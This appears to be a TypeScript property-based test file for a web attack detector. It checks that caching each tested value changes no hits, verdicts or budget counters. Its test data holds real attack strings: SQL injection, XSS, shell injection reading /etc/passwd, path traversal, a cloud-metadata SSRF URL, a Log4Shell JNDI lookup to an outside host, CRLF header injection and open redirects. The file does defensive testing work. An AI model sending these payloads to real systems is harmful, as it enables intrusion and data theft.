import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { AttackDetector, type AttackDetectorOptions } from '../../../node/analysis/attacks/detector';
import { tx } from './helpers';

/**
 * AttackDetector remembers each value's test across requests (docs/detection.md, "Value memory"):
 * a value met again is answered from memory with the same charges to the request's budget. The
 * reference is the same detector with the memory off: for any sequence of requests whose values
 * repeat (attacks, benign values, values that read the request's Host, values deep enough in
 * percent escapes to be trimmed, clean values that trim or stop a reader) and budgets small enough to run out mid-request, both give the
 * same hits, verdicts and counters (caps included).
 */
const VALUES = [
  'abc',
  '42',
  'd3b07384-d9a0-4c9f-8f5e-8b6d3e0a1c2f',
  "' OR 1=1--",
  '1 UNION SELECT password FROM users',
  '<script>alert(1)</script>',
  '; cat /etc/passwd',
  '$(id)',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'http://169.254.169.254/latest/meta-data/',
  'https://evil.example/login',
  'https://shop.example/cart',
  'https://shop.example.evil.net/',
  '//evil.example',
  '{{7*7}}',
  '${jndi:ldap://x.oast.fun/a}',
  '{"$ne": null}',
  '{"offset":"1 OR 1=1"}',
  'a%0d%0aSet-Cookie: x=1',
  'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '%2525252525252525252527%252520OR%2525201%25253D1',
  'Great product, would buy again! Shipping was fast.',
  'uname -a',
  '2130706433',
  'x'.repeat(300),
  // Clean, but its test trims (decode_depth) or stops a reader early (script_chars): remembered
  // with those charges, not as a clean value's charge alone.
  '%25252525252525252561',
  'a;'.repeat(100),
];
const NAMES = ['q', 'id', 'next', 'url', 'redirect_uri', 'comment', '$where'];
const HOSTS = ['shop.example', 'evil.example', 'api.example'];

const valueArb = fc.constantFrom(...VALUES);
const paramArb = fc.tuple(fc.constantFrom(...NAMES), valueArb);
const requestArb = fc.record({
  host: fc.constantFrom(...HOSTS),
  path: fc.array(valueArb, { maxLength: 2 }),
  query: fc.array(paramArb, { maxLength: 4 }),
  body: fc.option(
    fc.oneof(
      fc
        .array(paramArb, { maxLength: 4 })
        .map((ps) => ({ type: 'application/json', text: JSON.stringify(Object.fromEntries(ps)) })),
      fc.array(paramArb, { maxLength: 4 }).map((ps) => ({
        type: 'application/x-www-form-urlencoded',
        text: ps.map(([n, v]) => `${encodeURIComponent(n)}=${encodeURIComponent(v)}`).join('&'),
      })),
    ),
    { nil: null },
  ),
  cookie: fc.option(valueArb, { nil: null }),
});

type RequestSpec = typeof requestArb extends fc.Arbitrary<infer T> ? T : never;

function transaction(r: RequestSpec, redirected = true) {
  const target =
    '/' +
    r.path.map((s) => encodeURIComponent(s)).join('/') +
    (r.query.length === 0 ? '' : '?' + r.query.map(([n, v]) => `${encodeURIComponent(n)}=${encodeURIComponent(v)}`).join('&'));
  const headers: Array<[string, string]> = [
    ['Host', r.host],
    ['User-Agent', 'Mozilla/5.0'],
  ];
  if (r.cookie !== null) headers.push(['Cookie', `sid=${encodeURIComponent(r.cookie)}`]);
  if (r.body !== null) headers.push(['Content-Type', r.body.type]);
  return tx({
    method: r.body === null ? 'GET' : 'POST',
    target,
    headers,
    body: r.body?.text ?? '',
    response: redirected ? { status: 302, headers: [['Location', 'https://evil.example/login']] } : null,
  });
}

function runBoth(requests: RequestSpec[], opts: AttackDetectorOptions): void {
  const remembering = new AttackDetector({ ...opts, maxMillisPerRequest: Infinity });
  const reference = new AttackDetector({ ...opts, maxMillisPerRequest: Infinity, rememberValues: false });
  for (const r of requests) {
    const t = transaction(r);
    assert.deepEqual(remembering.detect(t), reference.detect(t), JSON.stringify(r));
  }
  assert.deepEqual(remembering.counters, reference.counters);
}

test('remembered values give the reference hits and counters (default limits)', () => {
  fc.assert(
    fc.property(fc.array(requestArb, { minLength: 1, maxLength: 30 }), (requests) => runBoth(requests, {})),
    { numRuns: 150 },
  );
});

test('remembered values charge the budget as tested ones: small decoded-bytes and value caps', () => {
  fc.assert(
    fc.property(
      fc.array(requestArb, { minLength: 1, maxLength: 30 }),
      fc.integer({ min: 20, max: 600 }),
      fc.integer({ min: 3, max: 20 }),
      (requests, maxDecodedBytes, maxValues) => runBoth(requests, { maxDecodedBytes, maxValues }),
    ),
    { numRuns: 150 },
  );
});

test('a value whose test read the request context is tested again for the next request', () => {
  // `next` is read against the request's own hosts: the same value is a redirect away from one
  // host (its name is a prefix of the value's) and not from the other (no response: the request
  // alone decides).
  const detector = new AttackDetector({ maxMillisPerRequest: Infinity });
  const request = (host: string) =>
    transaction({ host, path: [], query: [['next', 'https://shop.example.evil.net/']], body: null, cookie: null }, false);
  const away = detector.detect(request('shop.example'));
  const home = detector.detect(request('api.example'));
  const reference = new AttackDetector({ maxMillisPerRequest: Infinity, rememberValues: false });
  assert.deepEqual(away, reference.detect(request('shop.example')));
  assert.deepEqual(home, reference.detect(request('api.example')));
  assert.notDeepEqual(away, home);
});
